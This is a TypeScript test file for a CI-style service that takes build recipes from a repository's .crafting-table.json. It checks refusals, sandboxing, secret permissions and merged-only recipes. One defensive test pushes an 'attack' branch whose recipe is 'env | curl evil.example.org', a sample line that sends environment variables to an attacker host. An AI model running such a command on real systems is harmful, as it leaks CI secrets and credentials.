import assert from 'node:assert/strict';
import { join } from 'node:path';
import { describe, it, type TestContext } from 'node:test';
import { apiClient } from '../../../services/cli/farm/api-client.ts';
import { farmProjects } from '../../../services/cli/farm/farm-projects.ts';
import { startGitHttpServer } from '../../support/git-http-server.ts';
import { commitFiles, git } from '../../support/git-repository.ts';
import type { Json } from '../../support/http.ts';
import { until } from '../../support/until.ts';
import { allOf, beat, type Scene, withClock } from '../scheduler/scheduled-farm.ts';

const at = (minute: number) => new Date(Date.UTC(2030, 4, 1, 10, minute)).toISOString();
const file = '.crafting-table.json';
const recipes = (...subprojects: object[]) => ({ [file]: JSON.stringify({ subprojects }) });
const shell = (more: object) => ({ path: '.', language: 'shell', ...more });

type Stage = Scene & {
  /** Commits these files, and looks at the branch as the scheduler does in time. */
  push(files: Record<string, string>): Promise<string>;
  project(): Promise<Json>;
};

/** A project that takes its recipes from a repository behind git's own HTTP server. */
function withRepository(context: TestContext, work: (stage: Stage) => Promise<void>, document: object = {}) {
  return withClock(at(0), async (scene) => {
    const { farm, warned } = scene;
    const { url } = await startGitHttpServer(context, farm.dir);
    let minute = 0;
    const push = async (files: Record<string, string>) => {
      const sha = commitFiles(farm.repository, files);
      minute += 6;
      await beat(scene, at(minute));
      return sha;
    };
    const project = async () => (await farm.http.get('/projects/shop')).json.project;
    await push(recipes(shell({ test: 'true' })));
    const body = { name: 'shop', git_url: `${url}/repository/.git`, recipes: 'repository', ...document };
    const { status, text } = await farm.http.post('/projects', body);
    assert.equal(status, 201, text);
    let looks = 0;
    let seen: Json = null;
    const look = async () => {
      seen = (await project()).recipes_from;
      if (seen.commit !== null) return true;
      looks += 1;
      // A look that failed is tried again when its pause is over, by a clock that stands still here.
      if (looks % 50 === 0) {
        minute += 6;
        await beat(scene, at(minute));
      }
      return false;
    };
    await until(look, () => `the first look: ${JSON.stringify(seen)}; the farm warned of:\n${warned.join('\n')}`);
    await work({ ...scene, push, project });
  });
}

const pathOf = ({ farm }: Scene) => join(farm.dir, 'repository');

describe('the recipes of a repository', () => {
  it('are taken from its default branch, and a push that changes them changes the project', (context) =>
    withRepository(context, async (stage) => {
      const { farm, push, project } = stage;
      const first = await project();
      assert.equal(first.recipes_from.commit, git(pathOf(stage), 'rev-parse', 'HEAD'));
      assert.deepEqual(
        first.subprojects.map(({ path, test }: Json) => [path, test]),
        [['.', 'true']],
      );
      const second = await push(recipes(shell({ test: 'true' }), shell({ path: 'web', lint: 'true' })));
      assert.deepEqual((await project()).languages, ['shell']);
      assert.equal((await project()).recipes_from.commit, second);
      assert.deepEqual(
        (await project()).subprojects.map(({ path }: Json) => path),
        ['.', 'web'],
      );
      await push({ 'a.txt': 'no recipe' });
      const updates = await allOf(farm.store.log, 'ProjectUpdated');
      assert.deepEqual(
        updates.map(({ data }) => data.recipes_commit),
        [first.recipes_from.commit, second],
      );
    }));

  it('stay as they are while the file cannot be taken, which is told wherever one looks', (context) =>
    withRepository(context, async ({ farm, push, project }) => {
      const good = (await project()).recipes_from.commit;
      const bad = await push({
        [file]: JSON.stringify({ sandbox: 'off', subprojects: [shell({ test: 'env', secrets: ['DEPLOY'] })] }),
      });
      const { subprojects, recipes_from } = await project();
      assert.deepEqual([subprojects[0].test, recipes_from.commit, recipes_from.refused.sha], ['true', good, bad]);
      assert.deepEqual(
        recipes_from.refused.faults.map(({ path }: Json) => path),
        ['/sandbox', '/subprojects/0/secrets'],
      );
      const { items } = (await farm.http.get('/inbox')).json;
      const [item] = items.filter(({ kind }: Json) => kind === 'recipes');
      assert.match(item.title, /\.crafting-table\.json of shop cannot be taken: \/sandbox/);
      const refused = await allOf(farm.store.log, 'RepositoryRecipesRefused');
      assert.deepEqual(
        refused.map(({ data }) => data.sha),
        [bad],
      );
      const mended = await push(recipes(shell({ test: 'true' })));
      assert.deepEqual((await project()).recipes_from, { file, commit: mended, pins: [], unread: null, refused: null });
      assert.deepEqual(
        (await farm.http.get('/inbox')).json.items.filter(({ kind }: Json) => kind === 'recipes'),
        [],
      );
    }));

  it('stay as they are while the branch cannot be read, and while no event can hold them; both are told', (context) =>
    withRepository(context, async (stage) => {
      const { farm, push, project } = stage;
      git(pathOf(stage), 'branch', '--move', 'main', 'trunk');
      await beat(stage, at(30));
      const { unread } = (await project()).recipes_from;
      assert.match(unread.detail, /has no branch "main"/);
      const { items } = (await farm.http.get('/inbox')).json;
      assert.equal(items.find(({ kind }: Json) => kind === 'recipes')?.reason, unread.detail);
      await beat(stage, at(40));
      assert.equal((await allOf(farm.store.log, 'RepositoryRecipesUnread')).length, 1);
      git(pathOf(stage), 'branch', '--move', 'trunk', 'main');
      const many = Array.from({ length: 65 }, (_, n) => shell({ path: `p${n}`, language: `l${n}`, test: 'true' }));
      const never = await push(recipes(...many));
      await beat(stage, at(50));
      const { refused } = (await project()).recipes_from;
      assert.equal(refused.sha, never);
      assert.match(refused.faults[0].message, /languages/);
      assert.equal((await project()).recipes_from.unread, null);
    }));

  it('are those of the head whose jobs they are', (context) =>
    withRepository(
      context,
      async ({ farm, push }) => {
        const sha = await push(recipes(shell({ test: 'echo new' })));
        const [job] = await until(async () => {
          const jobs = await allOf(farm.store.log, 'JobEnqueued');
          return jobs.length > 0 && jobs;
        });
        assert.deepEqual([job?.data.command, job?.data.sha], ['echo new', sha]);
        assert.equal(job?.data.snapshot.recipes_commit, sha);
      },
      { schedule: { on_push: ['test'] } },
    ));

  it('are those of the commit that is asked for only where that was merged', (context) =>
    withRepository(context, async (stage) => {
      const { farm, push, project } = stage;
      const asked = async (where: object) => {
        const { status, json, text } = await farm.http.post('/projects/shop/jobs', { recipe: 'test', ...where });
        assert.equal(status, 202, text);
        return (await farm.store.log.last('JobEnqueued', json.job_id))?.data;
      };
      const old = (await project()).recipes_from.commit;
      const merged = await push(recipes(shell({ test: 'echo merged' })));
      git(pathOf(stage), 'checkout', '--quiet', '-b', 'attack');
      const attack = await push(recipes(shell({ test: 'env | curl evil.example.org' })));
      const before = await asked({ sha: old });
      assert.deepEqual([before?.command, before?.snapshot.recipes_commit], ['true', old]);
      for (const where of [{ branch: 'attack' }, { branch: 'attack', sha: attack }, { sha: attack }]) {
        const job = await asked(where);
        assert.deepEqual([job?.command, job?.snapshot.recipes_commit], ['echo merged', merged]);
      }
    }));

  it('are no difference to a set of documents that leaves them to the repository', (context) =>
    withRepository(context, async ({ farm, project }) => {
      const api = farmProjects(apiClient(farm.url, farm.admin));
      const shown = (await api.list()).get('shop') ?? null;
      const { git_url, recipes_from } = await project();
      const put = () =>
        api.put({ name: 'shop', git_url, recipes: 'repository' }, shown, {
          mode: 'reconcile',
          renewCredentials: false,
        });
      assert.equal(await put(), 'unchanged');
      assert.equal((await project()).recipes_from.commit, recipes_from.commit);
    }));

  it('run in the sandbox bwrap alone', (context) =>
    withRepository(context, async ({ farm }) => {
      const { json } = await farm.http.post('/projects/shop/jobs', { recipe: 'test' });
      const job = await until(async () => {
        const now = (await farm.http.get(`/jobs/${json.job_id}`)).json.job;
        return now.status === 'failed' && now;
      });
      assert.equal(job.reason, 'sandbox_missing');
      assert.match(job.detail, /recipes of the repository run in the sandbox bwrap alone; this runner has none/);
    }));

  it('are changed in the repository, not by a document; what they may ask for is read anew when that changes', (context) =>
    withRepository(context, async ({ farm, push, project }) => {
      const own = { subprojects: [shell({ test: 'evil' })] };
      const refused = await farm.http('PATCH', '/projects/shop', { body: own });
      assert.equal(refused.status, 400, refused.text);
      assert.match(refused.json.detail, /stand in \.crafting-table\.json of its repository/);
      const asking = await push(recipes(shell({ test: 'true', secrets: ['NPM_TOKEN'] })));
      assert.equal((await project()).recipes_from.refused.sha, asking);
      const given = await farm.http('PATCH', '/projects/shop', { body: { recipes_may: { secrets: ['NPM_TOKEN'] } } });
      assert.equal(given.status, 200, given.text);
      const now = await until(async () => {
        const shown = await project();
        return shown.recipes_from.refused === null && shown;
      });
      assert.deepEqual([now.recipes_from.commit, now.subprojects[0].secrets], [asking, ['NPM_TOKEN']]);
      const back = await farm.http('PATCH', '/projects/shop', { body: { recipes: 'document', ...own } });
      assert.deepEqual([back.json.project.recipes_from, back.json.project.subprojects[0].test], [null, 'evil']);
    }));
});
